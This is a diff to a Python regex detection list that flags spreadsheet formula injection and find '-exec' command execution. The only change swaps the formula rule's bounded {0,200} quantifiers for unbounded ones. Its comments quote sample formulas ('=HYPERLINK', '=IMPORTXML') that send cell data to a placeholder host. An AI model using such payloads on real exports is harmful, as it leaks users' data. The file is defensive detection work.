@@ -227,7 +227,7 @@ _STRONG = linear(
     # or a formula that sends the sheet's cells to a web address when the export is opened
     # ('=HYPERLINK("http://x/?d="&A1,"Click")', '=IMPORTXML(CONCAT("http://x/?",CONCATENATE(A2:E2)),"//a")')
     r"|^[=+\-@][\s]{0,2}(?:hyperlink|importxml|importdata|importhtml|importfeed|webservice|image)[\s]{0,2}\("
-    r"[^\n]{0,200}https?://[^\n]{0,200}(?:&[\s]{0,2}\$?[a-z]{1,3}\$?[0-9]{1,6}\b|concat(?:enate)?\([\s]{0,2}\$?[a-z]{1,3}\$?[0-9]{1,6})"
+    r"[^\n]*https?://[^\n]*(?:&[\s]{0,2}\$?[a-z]{1,3}\$?[0-9]{1,6}\b|concat(?:enate)?\([\s]{0,2}\$?[a-z]{1,3}\$?[0-9]{1,6})"
     # find's per-file program without "find" in front: "-exec id \\;", "-execdir sh -c x {} +"
     r"|(?:^|[\s;|&])-(?:exec|execdir|ok|okdir)[\s]{1,4}[^\s;|&][^\n]{0,120}(?:\\;|\{\}[\s]{0,4}\+)"
     # (a value that is the option itself may end it with a bare ";": "-exec id ;")
